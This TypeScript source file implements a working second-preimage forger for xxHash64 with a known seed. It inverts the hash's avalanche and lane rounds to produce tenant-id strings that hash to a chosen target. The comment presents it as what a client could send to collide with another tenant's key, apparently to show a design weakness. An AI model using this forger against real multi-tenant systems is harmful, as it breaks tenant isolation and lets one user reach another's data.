/**
 * Second preimages of xxHash64 with a known seed: what a client could send to meet another's key
 * in a table keyed by an unseeded hash. XXH64 is a chain of invertible steps, so with the last two
 * 8-byte lanes free, one is drawn at random and the other solved for, until both are in `charset`.
 */
const MASK = (1n << 64n) - 1n;
const P1 = 0x9e3779b185ebca87n;
const P2 = 0xc2b2ae3d27d4eb4fn;
const P3 = 0x165667b19e3779f9n;
const P4 = 0x85ebca77c2b2ae63n;
const P5 = 0x27d4eb2f165667c5n;

const mul = (a: bigint, b: bigint): bigint => (a * b) & MASK;
const rotl = (x: bigint, r: bigint): bigint => ((x << r) | (x >> (64n - r))) & MASK;
const rotr = (x: bigint, r: bigint): bigint => rotl(x, 64n - r);
/** The inverse of an odd number modulo 2^64 (Newton's iteration). */
const inverse = (odd: bigint): bigint => {
  let inv = odd;
  for (let i = 0; i < 6; i++) inv = mul(inv, (2n - mul(odd, inv)) & MASK);
  return inv;
};
const INV_P1 = inverse(P1);
const INV_P2 = inverse(P2);
const INV_P3 = inverse(P3);

const round = (acc: bigint, lane: bigint): bigint => mul(rotl((acc + mul(lane, P2)) & MASK, 31n), P1);
const mergeRound = (acc: bigint, v: bigint): bigint => ((mul(acc ^ round(0n, v), P1) + P4) & MASK);
/** One 8-byte lane of the input's tail (after its 32-byte stripes). */
const tailLane = (h: bigint, lane: bigint): bigint => (mul(rotl(h ^ round(0n, lane), 27n), P1) + P4) & MASK;
const laneAt = (bytes: Uint8Array, at: number): bigint => {
  let lane = 0n;
  for (let i = 7; i >= 0; i--) lane = (lane << 8n) | BigInt(bytes[at + i]!);
  return lane;
};
const unshift = (x: bigint, s: bigint): bigint => {
  let y = x;
  for (let k = s; k < 64n; k += s) y ^= x >> k;
  return y;
};
/** The inverse of XXH64's final avalanche. */
const unavalanche = (h: bigint): bigint => unshift(mul(unshift(mul(unshift(h, 32n), INV_P3), 29n), INV_P2), 33n);

/** The state before the last two lanes of an input of `length` bytes that begins with `fixed` (length - 16 bytes, a multiple of 8). */
function stateBefore(fixed: Uint8Array, length: number, seed: bigint): bigint {
  let h: bigint;
  let at = 0;
  if (length >= 32) {
    const v = [(seed + P1 + P2) & MASK, (seed + P2) & MASK, seed, (seed - P1) & MASK];
    for (; at + 32 <= length; at += 32) for (let i = 0; i < 4; i++) v[i] = round(v[i]!, laneAt(fixed, at + 8 * i));
    h = (rotl(v[0]!, 1n) + rotl(v[1]!, 7n) + rotl(v[2]!, 12n) + rotl(v[3]!, 18n)) & MASK;
    for (const lane of v) h = mergeRound(h, lane);
  } else {
    h = (seed + P5) & MASK;
  }
  h = (h + BigInt(length)) & MASK;
  for (; at < fixed.length; at += 8) h = tailLane(h, laneAt(fixed, at));
  return h;
}

const TENANT_CHARSET = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789._:-';

/**
 * A text that begins with `prefix` and whose XXH64 under `seed` is `target`, its added part of
 * `charset` only (a valid tenant id's, by default).
 */
export function forgeXxh64(prefix: string, target: bigint, seed = 0n, charset = TENANT_CHARSET): string {
  const allowed = new Set([...charset].map((c) => c.charCodeAt(0)));
  // The two free lanes must be the tail's last ones, after every 32-byte stripe: length % 32 is 16 or 24.
  let length = Math.ceil((prefix.length + 16) / 8) * 8;
  while (length % 32 !== 16 && length % 32 !== 24) length += 8;
  const fixedText = prefix + charset[0]!.repeat(length - 16 - prefix.length);
  const fixed = new Uint8Array(Buffer.from(fixedText, 'latin1'));
  const before = stateBefore(fixed, length, seed);
  const after = unavalanche(target);
  // tailLane(tailLane(before, first), second) === after, solved for `second`.
  const k2Xor = rotr(mul((after - P4) & MASK, INV_P1), 27n);
  const first = new Uint8Array(8);
  for (let tries = 0; tries < 50_000_000; tries++) {
    for (let i = 0; i < 8; i++) first[i] = charset.charCodeAt(Math.floor(Math.random() * charset.length));
    const k2 = k2Xor ^ tailLane(before, laneAt(first, 0));
    const second = mul(rotr(mul(k2, INV_P1), 31n), INV_P2);
    const bytes = Array.from({ length: 8 }, (_, i) => Number((second >> BigInt(8 * i)) & 0xffn));
    if (bytes.every((b) => allowed.has(b))) return fixedText + String.fromCharCode(...first, ...bytes);
  }
  throw new Error('no forgery found');
}
